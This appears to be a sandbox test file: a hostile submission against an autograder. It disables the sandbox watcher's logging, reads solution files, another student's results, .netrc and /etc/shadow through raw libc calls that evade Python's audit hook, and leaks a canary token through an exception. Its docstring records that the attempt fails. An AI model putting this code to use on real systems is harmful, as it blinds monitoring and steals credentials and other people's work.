"""Empties the report of its attempts, and looks for secrets by calls that Python's hook does not see.

Observed: no secret is found, whatever the report says.
Says: LOOT None
"""

import ctypes
import re
import sys


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


watch = sys.modules["autograder.sandbox.inside.worker"].watch
type(watch).note = lambda *_: None
watch.times, watch.told = {}, 0
libc, found = ctypes.CDLL(None, use_errno=True), b""
for path in (b"@WORLD@/solutions", b"@WORLD@/out/results/sibling.json", b"@WORLD@/home/.netrc", b"/etc/shadow"):
    file = libc.open(path, 0)
    if file >= 0:
        room = ctypes.create_string_buffer(1 << 16)
        found += room.raw[: max(0, libc.read(file, room, len(room)))]
loot(found.decode(errors="replace"))
